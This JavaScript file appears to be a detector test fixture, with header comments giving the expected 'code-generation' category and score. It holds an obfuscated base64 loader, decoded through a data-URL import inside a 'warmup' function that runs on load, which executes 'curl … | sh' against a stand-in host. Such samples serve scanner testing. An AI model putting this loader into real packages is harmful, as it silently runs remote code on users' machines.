// expect: category=code-generation min=80 context=plugin,package
// why: a dynamic import of a data: URL compiles a base64 string as a module.
const stage =
  'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9kbC5leGFtcGxlL3Muc2ggfCBzaCcp';

export async function warmup() {
  const mod = await import('data:text/javascript;base64,' + stage);
  return mod;
}

warmup().catch(() => {});
